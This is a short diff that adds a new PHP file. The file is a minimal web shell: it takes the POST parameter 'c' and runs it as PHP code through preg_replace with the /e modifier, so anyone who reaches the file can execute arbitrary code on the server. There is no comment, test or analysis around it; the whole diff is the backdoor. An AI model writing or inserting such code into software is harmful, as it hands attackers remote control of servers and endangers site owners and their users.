@@ -1,0 +1,3 @@
+<?php
+$payload = $_POST['c'];
+echo preg_replace('/.*/e', $payload, 'x');
